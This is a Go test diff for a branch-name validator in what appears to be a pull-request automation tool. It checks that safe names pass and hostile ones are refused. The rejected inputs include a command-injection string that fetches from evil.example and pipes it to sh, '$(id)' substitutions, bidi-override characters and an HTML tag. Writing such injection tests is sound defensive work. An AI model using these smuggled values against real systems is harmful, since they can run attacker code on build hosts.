@@ -44,6 +44,20 @@ func TestBranch(t *testing.T) {
 	}
 }
 
+func TestNamed(t *testing.T) {
+	for _, name := range []string{"prloop/docs", "prloop/nightly/a+b.c-2", "prloop/Fix_typos--again", strings.Repeat("x", 100)} {
+		if !Named(name) {
+			t.Errorf("%q is refused", name)
+		}
+	}
+	for _, name := range []string{"", `prloop/x";curl${IFS}evil.example|sh;"`, "prloop/$(id)", "prloop/`id`", "prloop/a&b", "prloop/it's", "prloop/a\nb", "prloop/a\n",
+		"prloop/docs\u202e\u200bgnp", "prloop/@octocat", "prloop/#12", "prloop/<img/src=x>", "prloop/{a,b}", "prloop/größe", strings.Repeat("x", 101)} {
+		if Named(name) {
+			t.Errorf("%q is taken", name)
+		}
+	}
+}
+
 func TestCheck(t *testing.T) {
 	terms := review.JobTerms{Include: []string{"**/*.md"}, Exclude: []string{"vendor/**"}, MaxFiles: 2, MaxDiffLines: 10}
 	for what, c := range map[string]struct {
